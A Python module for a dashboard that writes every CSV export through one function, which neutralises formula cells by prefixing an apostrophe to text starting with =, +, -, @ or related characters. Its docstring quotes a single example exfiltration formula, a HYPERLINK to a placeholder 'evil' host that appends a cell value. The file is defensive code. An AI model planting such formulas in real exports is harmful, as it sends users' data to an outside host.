"""CSV the dashboard writes: one writer for every CSV route, with formula cells
neutralised.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula, so `=HYPERLINK("http://evil/?"&A1, "...")` in a
device-supplied category or staff name would run on an HQ user's desktop. Such text
cells get a leading `'`, which spreadsheets show as text. Numbers stay numbers: a
negative amount is an int, never rewritten.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from typing import Final

from fastapi.responses import Response

# The ASCII triggers, and their full-width forms, which a Chinese IME types and some
# spreadsheets also take as the start of a formula.
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FILENAME_LEN_MAX: Final = 64


def neutral_cell(value: object) -> object:
    """The cell as a spreadsheet should show it: text that would run gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_text(rows: Sequence[Mapping[str, object]]) -> str:
    """Rows (all with the first row's columns) as CSV, header first; "" for no rows."""
    out = io.StringIO()
    if rows:
        columns = [str(neutral_cell(c)) for c in rows[0]]
        writer = csv.writer(out)
        writer.writerow(columns)
        for row in rows:
            writer.writerow([neutral_cell(row[c]) for c in rows[0]])
    return out.getvalue()


def csv_response(rows: Sequence[Mapping[str, object]], name: str) -> Response:
    """A CSV download named after a report; `name` is one of the dashboard's own."""
    assert name.isidentifier() and len(name) <= FILENAME_LEN_MAX, name
    headers = {"Content-Disposition": f'attachment; filename="{name}.csv"'}
    return Response(csv_text(rows), media_type="text/csv; charset=utf-8", headers=headers)
